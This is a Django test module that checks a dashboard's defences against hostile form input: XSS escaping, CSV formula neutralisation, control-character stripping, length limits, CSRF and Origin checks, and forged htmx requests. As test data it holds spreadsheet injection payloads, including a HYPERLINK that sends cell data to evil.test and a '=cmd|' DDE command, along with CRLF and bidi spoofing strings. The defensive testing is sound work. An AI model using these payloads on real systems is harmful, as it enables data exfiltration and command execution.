"""Hostile input through the dashboard's forms.

- Script payloads in every text field that is shown anywhere come back escaped on every
  page that shows them, the audit log included; the CSV export neutralises cells that a
  spreadsheet would run as formulas.
- Control characters (CR, LF, ANSI escapes, bidi overrides) never reach a stored name.
- Overlong values are field errors and change nothing.
- Every POST form refuses a missing CSRF token and a foreign Origin or Referer (403) and
  changes nothing; no URL changes state on GET; a forged `HX-Request` gets a fragment of
  what the full page would show, never more.

The URL tables are checked against the resolver: a new dashboard URL that is in none of
them fails `test_every_dashboard_url_is_classified`.
"""

import csv
import io
import json
import re

import pytest
from django.core.management import CommandError, call_command
from django.test import Client
from django.urls import URLPattern, URLResolver, get_resolver, reverse

from dock.workspaces.models import Document, Workspace
from identity import consent
from identity.models import Org, Principal, User
from identity.tests.hostile_support import (
    XSS,
    Hold,
    Unchanged,
    assert_escaped,
    build_world,
    csrf_client,
    logged_in,
    private_cache,  # noqa: F401
    race,
)

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("private_cache", "fast_hashing")]

NEW_PASSWORD = "a sturdy passphrase 42"


@pytest.fixture
def fast_hashing(settings):
    settings.PASSWORD_HASHERS = ["django.contrib.auth.hashers.MD5PasswordHasher"]


@pytest.fixture
def world(make):
    return build_world(make)


def pages(client, urls):
    for url in urls:
        response = client.get(url)
        assert response.status_code == 200, (url, response.status_code)
        yield url, response.content


# XSS: one writer per text field, each returning the pages that show it -------------------------------


def signup_name(world, payload):
    client = Client()
    response = client.post(reverse("signup"), {"org_name": "Evil Corp", "name": payload, "email": "x@evil.test",
                                               "password": NEW_PASSWORD})
    assert response.status_code == 302
    client.post(reverse("workspace-new"), {"name": "Mine", "slug": "mine", "visibility": "members"})
    me = User.objects.get(email="x@evil.test").principal
    return client, ["/", me.get_absolute_url(), "/people/", "/w/mine/members/", "/audit/"]


def signup_org_name(world, payload):
    client = Client()
    response = client.post(reverse("signup"), {"org_name": payload, "name": "Xavier", "email": "x@evil.test",
                                               "password": NEW_PASSWORD})
    assert response.status_code == 302
    return client, ["/", "/audit/"]


def agent_name(world, payload):
    client = logged_in(world.alice)
    response = client.post(reverse("agent-new"), {"name": payload, "scope": ["read"]})
    assert response.status_code == 302
    return client, [response["Location"], "/people/", "/", "/w/roadmap/members/", "/audit/"]


def workspace_name(world, payload):
    client = logged_in(world.alice)
    response = client.post(reverse("workspace-new"), {"name": payload, "slug": "xss-ws", "visibility": "members"})
    assert response.status_code == 302
    return client, ["/", "/w/xss-ws/", "/w/xss-ws/members/", "/audit/"]


def document_title_and_body(world, payload):
    client = logged_in(world.alice)
    response = client.post(reverse("workspace", args=["roadmap"]), {"title": payload, "body": f"Body {payload}"})
    assert response.status_code == 302
    document = Document.objects.get(title=payload)
    consent.document_delete_request(actor=world.scout, document=document)  # its title in the proposals inbox
    return client, [response["Location"], "/w/roadmap/", "/", "/proposals/", "/audit/"]


def document_edit(world, payload):
    client = logged_in(world.alice)
    url = reverse("document-edit", args=["roadmap", world.doc.public_id])
    assert client.post(url, {"title": payload, "body": payload}).status_code == 302
    return client, [reverse("document", args=["roadmap", world.doc.public_id]), "/w/roadmap/", "/audit/", url]


def comment_body(world, payload):
    client = logged_in(world.alice)
    url = reverse("document", args=["roadmap", world.doc.public_id])
    assert client.post(url + "comments/", {"body": payload}).status_code == 302
    return client, [url]


def invitation_signup_name(world, payload):
    response = Client().post(reverse("invite-accept", args=[world.token]), {"name": payload, "password": NEW_PASSWORD})
    assert response.status_code == 302
    return logged_in(world.alice), ["/w/roadmap/members/", "/people/", "/audit/"]


def service_name(world, payload):
    client = logged_in(world.alice)
    response = client.post(reverse("service-new"), {"name": payload, "handle": ""})
    assert response.status_code == 302
    return client, [response["Location"], reverse("services"), "/people/", "/audit/"]


WRITERS = [signup_name, signup_org_name, agent_name, workspace_name, document_title_and_body, document_edit, comment_body,
           invitation_signup_name, service_name]


@pytest.mark.parametrize("payload", XSS, ids=["script", "attribute-breakout", "javascript-url"])
@pytest.mark.parametrize("writer", WRITERS, ids=[w.__name__ for w in WRITERS])
def test_script_payloads_are_escaped_on_every_page_that_shows_them(world, writer, payload):
    client, urls = writer(world, payload)
    for url, content in pages(client, urls):
        try:
            assert_escaped(content, payload)
        except AssertionError as exc:
            raise AssertionError(f"{url}: {exc}") from None
    # Fragments (htmx) are escaped the same way.
    for url in urls:
        response = client.get(url, headers={"HX-Request": "true"})
        assert_escaped(response.content, payload, shown=False)


@pytest.mark.parametrize("payload", XSS, ids=["script", "attribute-breakout", "javascript-url"])
def test_payloads_echoed_back_by_refused_forms_are_escaped(world, payload):
    """A value that fails validation is put back into the form: as an attribute value."""
    login = Client().post(reverse("login"), {"email": payload, "password": "x"})
    assert login.status_code == 400
    assert_escaped(login.content, payload)
    invite = logged_in(world.alice).post(reverse("workspace-invite", args=["roadmap"]), {"email": payload, "role": "viewer"})
    assert invite.status_code == 400 and invite.context["invite_form"].errors["email"]
    assert_escaped(invite.content, payload)
    audit = logged_in(world.alice).get(reverse("audit"), {"actor": payload})
    assert audit.status_code == 200 and audit.context["form"].errors["actor"]
    assert_escaped(audit.content, payload)


# CSV export: no cell starts a formula -------------------------------------------------------------------

FREE_TEXT_COLUMNS = ("actor_id", "actor_name", "owner_id", "owner_name", "org", "workspace", "target_kind", "target_id",
                     "target_name", "details", "request_id", "ip")


@pytest.mark.parametrize("start", ["=", "+", "-", "@"])
def test_csv_export_neutralises_formula_starts(world, start):
    formula = f"{start}HYPERLINK(\"http://evil.test/?\"&A1,\"x\")"
    alice = logged_in(world.alice)
    assert alice.post(reverse("agent-new"), {"name": formula, "scope": ["read"]}).status_code == 302
    assert alice.post(reverse("workspace-new"), {"name": formula, "slug": "sheet", "visibility": "members"}).status_code == 302
    assert alice.post(reverse("workspace", args=["roadmap"]), {"title": formula, "body": ""}).status_code == 302
    Client().post(reverse("invite-accept", args=[world.token]), {"name": formula, "password": NEW_PASSWORD})

    response = alice.get(reverse("audit-export", args=["csv"]))
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode()
    rows = list(csv.DictReader(io.StringIO(text)))
    cells = [row[c] for row in rows for c in FREE_TEXT_COLUMNS if row[c]]
    assert not [c for c in cells if c[0] in "=+-@\t\r"], "a cell starts like a formula"
    neutralised = [c for c in cells if c == "'" + formula]
    # The agent's name (as actor and as target), the workspace's and the document's titles,
    # the invited person's name: each is there, neutralised.
    assert len(neutralised) >= 4, cells
    # JSON Lines is data, not a spreadsheet: the exact value.
    jsonl = b"".join(alice.get(reverse("audit-export", args=["jsonl"])).streaming_content).decode()
    assert any(json.loads(line)["target_name"] == formula for line in jsonl.splitlines())


def test_cli_csv_export_neutralises_formula_starts(world, capsys):
    from dock.workspaces.services import document_create

    document_create(actor=world.alice, workspace=world.roadmap, title="=cmd|' /C calc'!A0", body="")
    capsys.readouterr()
    call_command("dock", "audit", "export", "--format", "csv")
    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    assert any(r["target_name"] == "'=cmd|' /C calc'!A0" for r in rows)
    assert not [r for r in rows for c in FREE_TEXT_COLUMNS if r[c][:1] in ("=", "+", "-", "@")]


# Control characters in names -------------------------------------------------------------------------

CONTROL_PAYLOADS = {
    "crlf": "Eve\r\nSet-Cookie: evil=1",
    "ansi": "\x1b[31mRed\x1b[0m Alert\x1b[2J",
    "bidi": "Invoice \u202egpj.exe",
    "nul-and-bell": "Nul\x00 Bell\x07",
}
_FORBIDDEN = re.compile(r"[\x00-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")


def stored_names() -> list[str]:
    return [
        *Principal.objects.values_list("display_name", flat=True),
        *Org.objects.values_list("name", flat=True),
        *Workspace.objects.values_list("name", flat=True),
        *Document.objects.values_list("title", flat=True),
    ]


NAME_WRITERS = {
    "signup": lambda w, v: Client().post(reverse("signup"), {"org_name": v, "name": v, "email": "x@evil.test",
                                                             "password": NEW_PASSWORD}),
    "agent": lambda w, v: logged_in(w.alice).post(reverse("agent-new"), {"name": v, "scope": ["read"]}),
    "workspace": lambda w, v: logged_in(w.alice).post(reverse("workspace-new"), {"name": v, "slug": "ctl", "visibility": "org"}),
    "workspace settings": lambda w, v: logged_in(w.alice).post(reverse("workspace-settings", args=["roadmap"]),
                                                               {"name": v, "visibility": "members"}),
    "document": lambda w, v: logged_in(w.alice).post(reverse("workspace", args=["roadmap"]), {"title": v, "body": ""}),
    "invitation": lambda w, v: Client().post(reverse("invite-accept", args=[w.token]), {"name": v, "password": NEW_PASSWORD}),
    "service": lambda w, v: logged_in(w.alice).post(reverse("service-new"), {"name": v, "handle": ""}),
}


@pytest.mark.parametrize("payload", list(CONTROL_PAYLOADS.values()), ids=list(CONTROL_PAYLOADS))
@pytest.mark.parametrize("where", list(NAME_WRITERS))
def test_control_characters_never_reach_a_stored_name(world, where, payload):
    response = NAME_WRITERS[where](world, payload)
    # Stripped (the name is kept without them) or refused as a field error; never stored raw.
    assert response.status_code in (302, 400), response.status_code
    assert not [n for n in stored_names() if _FORBIDDEN.search(n)]
    if response.status_code == 302:
        visible = _FORBIDDEN.sub(" ", payload).split()[0]  # a line break separates words still
        assert any(visible in n for n in stored_names())
    # Nor the audit log's snapshots, nor the exports built from them.
    alice = logged_in(world.alice)
    for fmt in ("csv", "jsonl"):
        body = b"".join(alice.get(reverse("audit-export", args=[fmt])).streaming_content).decode()
        assert "\x1b" not in body and "\u202e" not in body and "\r" not in body


BLANK_PAYLOADS = {"zero-width": "\u200b\u200b", "filler": "\u3164", "braille-blank": "\u2800", "marks": "\u202e\u200b\ufe0f"}


@pytest.mark.parametrize("payload", list(BLANK_PAYLOADS.values()), ids=list(BLANK_PAYLOADS))
@pytest.mark.parametrize("where", list(NAME_WRITERS))
def test_a_name_that_shows_nothing_is_refused_as_no_name(world, where, payload):
    """Names and titles of only zero-width spaces, fillers or a blank braille cell were
    kept, and listed as nobody anyone could tell apart."""
    from identity.services.principals import shows_text

    before = sorted(stored_names())
    response = NAME_WRITERS[where](world, payload)
    assert response.status_code == 400
    assert "is required." in response.content.decode()
    assert sorted(stored_names()) == before and all(shows_text(n) for n in before)


def test_the_cli_refuses_a_name_that_shows_nothing(world):
    for args in (["agent", "create", "--owner", "alice@acme.test", "--name", "\u200b\u200b"],
                 ["org", "create", "blankorg", "--name", "\u3164"]):
        with pytest.raises(CommandError, match="A name is required."):
            call_command("dock", *args)


@pytest.mark.parametrize("payload", list(CONTROL_PAYLOADS.values()), ids=list(CONTROL_PAYLOADS))
def test_cli_json_carries_no_control_characters_from_names(world, capsys, payload):
    capsys.readouterr()
    call_command("dock", "agent", "create", "--owner", "alice@acme.test", "--name", payload)
    out = capsys.readouterr().out
    created = json.loads(out)
    stored = Principal.objects.get(public_id=created["id"]).display_name
    assert not _FORBIDDEN.search(stored) and not _FORBIDDEN.search(out.strip())


# Overlong values ------------------------------------------------------------------------------------------

OVERLONG = [
    # (who, url name, url args, data, field)
    ("anon", "signup", [], {"org_name": "O", "name": "n" * 121, "email": "x@evil.test", "password": NEW_PASSWORD}, "name"),
    ("anon", "signup", [], {"org_name": "o" * 121, "name": "N", "email": "x@evil.test", "password": NEW_PASSWORD}, "org_name"),
    ("anon", "signup", [], {"org_name": "O", "name": "N", "email": "x" * 250 + "@e.test", "password": NEW_PASSWORD}, "email"),
    ("anon", "login", [], {"email": "x" * 250 + "@e.test", "password": "whatever"}, "email"),
    ("alice", "agent-new", [], {"name": "a" * 121, "scope": ["read"]}, "name"),
    ("alice", "workspace-new", [], {"name": "w" * 201, "slug": "long", "visibility": "members"}, "name"),
    ("alice", "workspace-new", [], {"name": "W", "slug": "s" * 65, "visibility": "members"}, "slug"),
    ("alice", "workspace-new", [], {"name": "W", "slug": "long", "visibility": "members", "description": "d" * 501},
     "description"),
    ("alice", "workspace-settings", ["roadmap"], {"name": "w" * 201, "visibility": "members"}, "name"),
    ("alice", "workspace-settings", ["roadmap"], {"name": "W", "visibility": "members", "description": "d" * 501},
     "description"),
    ("alice", "workspace", ["roadmap"], {"title": "t" * 201, "body": ""}, "title"),
    ("alice", "workspace", ["roadmap"], {"title": "T", "body": "b" * 100_001}, "body"),
    ("alice", "document-edit", ["roadmap", "DOC"], {"title": "t" * 201, "body": ""}, "title"),
    ("alice", "document-comment", ["roadmap", "DOC"], {"body": "c" * 10_001}, "body"),
    ("alice", "workspace-invite", ["roadmap"], {"email": "x" * 250 + "@e.test", "role": "viewer"}, "email"),
    ("anon", "invite-accept", ["TOKEN"], {"name": "n" * 121, "password": NEW_PASSWORD}, "name"),
    ("anon", "invite-accept", ["TOKEN"], {"name": "N", "password": "p" * 129}, "password"),
    ("alice", "service-new", [], {"name": "s" * 121, "handle": ""}, "name"),
    ("alice", "service-new", [], {"name": "S", "handle": "h" * 41}, "handle"),
]


def _args(world, args):
    return [{"DOC": world.doc.public_id, "TOKEN": world.token}.get(a, a) for a in args]


@pytest.mark.parametrize("who, name, args, data, field", OVERLONG,
                         ids=[f"{n}-{f}" for _, n, _, _, f in OVERLONG])
def test_overlong_values_are_field_errors_and_change_nothing(world, who, name, args, data, field):
    client = logged_in(world.alice) if who == "alice" else Client()
    with Unchanged():
        response = client.post(reverse(name, args=_args(world, args)), data)
    assert response.status_code == 400, response.status_code
    contexts = response.context if isinstance(response.context, list) else [response.context]
    forms = [v for c in contexts for k, v in c.flatten().items() if k.endswith("form") and hasattr(v, "errors")]
    assert any(field in f.errors for f in forms), [f.errors for f in forms]


def test_a_body_over_the_request_cap_is_400_and_changes_nothing(world):
    client = logged_in(world.alice)
    with Unchanged():
        response = client.post(reverse("workspace", args=["roadmap"]), {"title": "Huge", "body": "b" * (2 * 1024 * 1024)})
    assert response.status_code == 400


# The dashboard's URLs: which take POSTs, which are read-only -----------------------------------------------


def post_forms(world):
    """Every URL that changes state on POST, with data it would accept."""
    roadmap, doc, scout = "roadmap", world.doc.public_id, world.scout.handle
    svc = world.service.public_id
    key_prefix = world.service.keys.get().prefix
    return {
        "signup": ("anon", [], {"org_name": "New Org", "name": "Nora", "email": "nora@new.test", "password": NEW_PASSWORD}),
        "login": ("anon", [], {"email": "alice@acme.test", "password": "x"}),
        "logout": ("alice", [], {}),
        "password-change": ("alice", [], {"old_password": "x", "new_password1": NEW_PASSWORD, "new_password2": NEW_PASSWORD}),
        "agent-new": ("alice", [], {"name": "Mallory Bot", "scope": ["read"]}),
        "agent-pause": ("alice", [scout], {}),
        "agent-resume": ("alice", [scout], {}),
        "agent-rotate": ("alice", [scout], {}),
        "agent-key-stop": ("alice", [scout, world.scout.keys.first().prefix], {}),
        "agent-revoke": ("alice", [scout], {}),
        "agent-restore": ("alice", [scout], {}),
        "agent-transfer": ("alice", [scout], {"owner": world.bob.public_id}),
        "agent-scope": ("alice", [scout], {"scope": ["read", "comment", "write", "delete"]}),
        "service-new": ("alice", [], {"name": "Injected Service", "handle": ""}),
        "service-rotate": ("alice", [svc], {}),
        "org-keys-rotate": ("alice", [], {"when": "now", "seen": 0}),
        "service-key-revoke": ("alice", [svc, key_prefix], {}),
        "service-revoke": ("alice", [svc], {}),
        "service-grant": ("alice", [svc], {"workspace": "vault", "role": "viewer"}),
        "service-grant-remove": ("alice", [svc, roadmap], {}),
        "service-adopt": ("alice", [svc], {"owner": world.bob.public_id, "scope": ["read"], "action": "adopt",
                                            "reviewed": f"{world.bob.public_id}:1"}),
        "proposal-approve": ("alice", [world.proposal.public_id], {}),
        "proposal-reject": ("alice", [world.proposal.public_id], {}),
        "workspace-new": ("alice", [], {"name": "Injected", "slug": "injected", "visibility": "members"}),
        "workspace": ("alice", [roadmap], {"title": "Injected", "body": "x"}),
        "workspace-settings": ("alice", [roadmap], {"name": "Defaced", "visibility": "org", "restricted": "on"}),
        "document-edit": ("alice", [roadmap, doc], {"title": "Defaced", "body": "x"}),
        "document-delete": ("alice", [roadmap, doc], {}),
        "document-comment": ("alice", [roadmap, doc], {"body": "Injected"}),
        "workspace-member-role": ("alice", [roadmap, world.bob.handle], {"role": "admin"}),
        "workspace-member-remove": ("alice", [roadmap, world.bob.handle], {}),
        "workspace-invite": ("alice", [roadmap], {"email": "mallory@evil.test", "role": "admin"}),
        "invitation-revoke": ("alice", [roadmap, world.invitation.public_id], {}),
        "elevation-grant": ("alice", [roadmap, scout], {}),
        "elevation-remove": ("alice", [roadmap, scout], {}),
        "invite-accept": ("anon", [world.token], {"name": "Dave", "password": NEW_PASSWORD}),
    }


# Read-only pages (GET only, or GET that never writes), with arguments for the GET test.
def read_only_pages(world):
    return {
        "home": [], "people": [], "proposals": [], "services": [], "service-tells": [],
        "profile": [world.scout.handle], "service-admin": [world.service.public_id], "proposal": [world.proposal.public_id],
        "workspace-members": ["roadmap"], "workspace-member": ["roadmap", world.bob.handle],
        "document": ["roadmap", world.doc.public_id],
        "audit": [], "audit-export": ["csv"], "audit-integrity": [], "audit-orb": [world.scout.public_id],
        "avatar": [world.scout.public_id], "healthz": [],
    }


# Served by Django itself (the admin, staff only, with its own CSRF-protected forms) or by the
# agent API (bearer keys, no cookies: CSRF does not apply; test_hostile_keys covers it), whose
# bare base path (/api/v1, without its slash) sits outside its namespace.
OUTSIDE = ("admin", "api")
OUTSIDE_NAMES = ("api-base",)


def dashboard_url_names():
    names = set()

    def walk(resolver, namespace):
        for entry in resolver.url_patterns:
            if isinstance(entry, URLResolver):
                walk(entry, entry.namespace or namespace)
            elif isinstance(entry, URLPattern) and namespace not in OUTSIDE and entry.name not in OUTSIDE_NAMES:
                names.add(entry.name)

    walk(get_resolver(), None)
    return names


def test_every_dashboard_url_is_classified(world):
    classified = set(post_forms(world)) | set(read_only_pages(world))
    missing = dashboard_url_names() - classified
    assert not missing, f"add these URLs to the CSRF/GET tables: {sorted(missing)}"


POST_NAMES = [
    "signup", "login", "logout", "password-change", "agent-new", "agent-pause", "agent-resume", "agent-rotate",
    "agent-key-stop",
    "agent-revoke", "agent-restore", "agent-transfer", "agent-scope", "service-new", "service-rotate", "org-keys-rotate", "service-key-revoke",
    "service-revoke", "service-grant", "service-grant-remove", "service-adopt", "proposal-approve", "proposal-reject",
    "workspace-new", "workspace", "workspace-settings", "document-edit", "document-delete", "document-comment", "workspace-member-role",
    "workspace-member-remove", "workspace-invite", "invitation-revoke", "elevation-grant", "elevation-remove",
    "invite-accept",
]


def test_the_post_list_is_the_table(world):
    assert sorted(POST_NAMES) == sorted(post_forms(world))


def _post_client(world, who):
    return csrf_client(world.alice if who == "alice" else None)


@pytest.mark.parametrize("name", POST_NAMES)
def test_post_without_csrf_token_is_403_and_changes_nothing(world, name):
    who, args, data = post_forms(world)[name]
    client, _ = _post_client(world, who)
    with Unchanged():
        response = client.post(reverse(name, args=args), data)
    assert response.status_code == 403
    assert b"CSRF" in response.content


@pytest.mark.parametrize("name", POST_NAMES)
def test_post_from_a_foreign_origin_is_403_and_changes_nothing(world, name):
    who, args, data = post_forms(world)[name]
    client, token = _post_client(world, who)
    with Unchanged():
        response = client.post(reverse(name, args=args), data, HTTP_X_CSRFTOKEN=token, HTTP_ORIGIN="https://evil.test")
    assert response.status_code == 403
    # The same request from the page's own origin gets through the CSRF check.
    same = client.post(reverse(name, args=args), data, HTTP_X_CSRFTOKEN=token, HTTP_ORIGIN="http://testserver")
    assert same.status_code != 403 or b"CSRF" not in same.content


@pytest.mark.parametrize("referer", ["https://evil.test/w/roadmap/", None, "http://testserver/w/roadmap/"],
                         ids=["foreign", "missing", "insecure-same-host"])
@pytest.mark.parametrize("name", ["workspace", "agent-revoke", "workspace-invite", "login"])
def test_over_https_a_bad_referer_is_403_and_changes_nothing(world, name, referer):
    """Without an Origin header (older browsers), Django checks the Referer on HTTPS."""
    who, args, data = post_forms(world)[name]
    client, token = _post_client(world, who)
    extra = {"HTTP_REFERER": referer} if referer else {}
    with Unchanged():
        response = client.post(reverse(name, args=args), data, secure=True, HTTP_X_CSRFTOKEN=token, **extra)
    assert response.status_code == 403
    ok = client.post(reverse(name, args=args), data, secure=True, HTTP_X_CSRFTOKEN=token,
                     HTTP_REFERER="https://testserver/somewhere/")
    assert ok.status_code != 403 or b"CSRF" not in ok.content


@pytest.mark.parametrize("name", sorted(set(POST_NAMES) | {
    "home", "people", "proposals", "services", "service-tells", "profile", "service-admin", "workspace-members",
    "workspace-member", "document", "audit", "audit-export", "audit-integrity", "audit-orb", "avatar", "healthz",
}))
def test_get_never_changes_state(world, name):
    """Every URL, asked with GET and the data its form would POST in the query string."""
    if name in post_forms(world):
        who, args, data = post_forms(world)[name]
    else:
        who, args, data = "alice", read_only_pages(world)[name], {"action": "adopt"}
    client = logged_in(world.alice) if who == "alice" else Client()
    with Unchanged():
        response = client.get(reverse(name, args=args), data)
    assert response.status_code in (200, 302, 400, 405), response.status_code


# Forged htmx headers -----------------------------------------------------------------------------------------

HX = {"HX-Request": "true", "HX-Target": "main", "HX-Current-URL": "http://testserver/"}


def _links(content: bytes) -> set[str]:
    return set(re.findall(rb'href="(/(?:p|w|agents|services|proposals)/[^"]*)"', content))


OUTSIDERS = [
    # (who, url, status): another org's owner, a same-org member of no members-only workspace
    ("sam", "/w/roadmap/", 404), ("sam", "/w/roadmap/members/", 404), ("sam", "/w/roadmap/members/bob-brown/", 404),
    ("sam", "/w/roadmap/d/DOC/", 404), ("sam", "/p/scout/", 404), ("sam", "/p/alice-adams/", 404),
    ("sam", "/audit/", 200), ("sam", "/services/", 200), ("sam", "/people/", 200), ("sam", "/", 200),
    ("carol", "/w/roadmap/", 404), ("carol", "/w/roadmap/d/DOC/", 404), ("carol", "/w/roadmap/members/", 404),
    ("carol", "/w/vault/", 404), ("carol", "/audit/", 404), ("carol", "/services/", 404),
    ("bob", "/w/vault/", 404), ("bob", "/w/vault/members/", 404),
]


@pytest.mark.parametrize("who, url, status", OUTSIDERS, ids=[f"{w}-{u}" for w, u, _ in OUTSIDERS])
def test_forged_htmx_from_outside_gets_no_fragment_of_what_it_may_not_see(world, who, url, status):
    url = url.replace("DOC", world.doc.public_id)
    response = logged_in(getattr(world, who)).get(url, headers=HX)
    assert response.status_code == status
    secrets = [world.doc.public_id, "The secret plan body", "A first comment", world.scout.public_id]
    if who == "sam":  # nothing of Acme at all on Globex's own pages
        secrets += ["Roadmap", "Bob Brown", "Nightly Export", "Scout", world.alice.public_id]
    if who in ("carol", "bob"):
        secrets += ["Vault"] if "vault" in url else []
    leaked = [s for s in secrets if s.encode() in response.content]
    assert not leaked, leaked


@pytest.mark.parametrize("url", ["/", "/people/", "/p/scout/", "/w/roadmap/", "/w/roadmap/members/", "/proposals/",
                                 "/audit/", "/services/"])
def test_forged_htmx_when_logged_out_is_sent_to_log_in(world, url):
    response = Client().get(url, headers=HX)
    # htmx is told to send the browser to the login page (LoginForSwapsMiddleware), with nothing else.
    assert response.status_code == 200 and response["HX-Redirect"].startswith("/login/?next=")
    assert response.content == b""


@pytest.mark.parametrize("url", ["/", "/people/", "/people/?view=chart", "/p/scout/", "/p/alice-adams/", "/w/roadmap/",
                                 "/w/roadmap/members/", "/w/roadmap/members/alice-adams/", "/w/roadmap/d/DOC/", "/proposals/"])
def test_forged_htmx_fragment_shows_nothing_the_full_page_does_not(world, url):
    """Bob, a member who manages nothing: the fragment is part of the page he may see."""
    url = url.replace("DOC", world.doc.public_id)
    bob = logged_in(world.bob)
    full = bob.get(url)
    fragment = bob.get(url, headers=HX)
    assert full.status_code == fragment.status_code == 200
    assert b"<html" not in fragment.content or b"<html" in full.content
    assert _links(fragment.content) <= _links(full.content)
    assert world.scout.keys.get().prefix.encode() not in fragment.content  # not his agent: no keys


def test_forged_htmx_on_someone_elses_agent_control_changes_nothing(world):
    bob = logged_in(world.bob)
    with Unchanged():
        for action in ("agent-pause", "agent-rotate", "agent-revoke", "agent-restore"):
            response = bob.post(reverse(action, args=[world.scout.handle]), headers=HX)
            assert response.status_code == 403, (action, response.status_code)
            assert b"dock_" not in response.content


def test_forged_htmx_on_a_manager_action_by_a_member_changes_nothing(world):
    bob = logged_in(world.bob)
    with Unchanged():
        role = bob.post(reverse("workspace-member-role", args=["roadmap", "alice-adams"]), {"role": "viewer"}, headers=HX)
        invite = bob.post(reverse("workspace-invite", args=["roadmap"]), {"email": "m@evil.test", "role": "admin"}, headers=HX)
    # htmx swaps 2xx only: the refusal reloads the page around a message.
    assert role.status_code in (200, 403) and invite.status_code in (200, 403)
    assert b"/invites/" not in invite.content


def test_forged_htmx_with_bad_input_is_a_fragment_with_errors_and_changes_nothing(world):
    alice = logged_in(world.alice)
    with Unchanged():
        response = alice.post(reverse("workspace", args=["roadmap"]), {"title": "", "body": "x"}, headers=HX)
    assert response.status_code in (200, 400)
    assert response.context["form"].errors["title"]


# A double click on "Create organisation" ----------------------------------------------------------


@pytest.mark.postgres
@pytest.mark.django_db(transaction=True)
@pytest.mark.parametrize("second_org", ["Harbour Labs", "Another Name"], ids=["same-org-name", "other-org-name"])
def test_two_sign_ups_at_once_with_one_address_create_one_account(monkeypatch, second_org):
    """The second request waits on the first's rows, then gets a clear answer: never a
    server error, never a second account or org."""
    from identity.services import users

    hold = Hold(users.record, when=lambda action, **kw: action == "human.created")
    monkeypatch.setattr(users, "record", hold)
    data = {"org_name": "Harbour Labs", "name": "Hana Ito", "email": "hana@harbour.test", "password": NEW_PASSWORD}
    first, second = race(hold, lambda: Client().post(reverse("signup"), data),
                         lambda: Client().post(reverse("signup"), {**data, "org_name": second_org}))
    assert first.status_code == 302
    assert second.status_code in (200, 409), second.status_code  # "check your email", or the slug is taken
    assert User.objects.filter(email="hana@harbour.test").count() == 1
    assert Org.objects.count() == 1


@pytest.mark.postgres
@pytest.mark.django_db(transaction=True)
def test_two_people_of_the_same_name_signing_up_at_once_both_get_in(monkeypatch):
    """Different addresses, one name: the second waits on the first's handle, then picks
    the next free one."""
    from identity.services import users

    hold = Hold(users.record, when=lambda action, **kw: action == "human.created")
    monkeypatch.setattr(users, "record", hold)
    hana = {"org_name": "Harbour Labs", "name": "Hana Ito", "email": "hana@harbour.test", "password": NEW_PASSWORD}
    other = {**hana, "org_name": "Hill Labs", "email": "hana@hill.test"}
    first, second = race(hold, lambda: Client().post(reverse("signup"), hana), lambda: Client().post(reverse("signup"), other))
    assert (first.status_code, second.status_code) == (302, 302)
    handles = sorted(Principal.objects.filter(display_name="Hana Ito").values_list("handle", flat=True))
    assert handles == ["hana-ito", "hana-ito-2"]
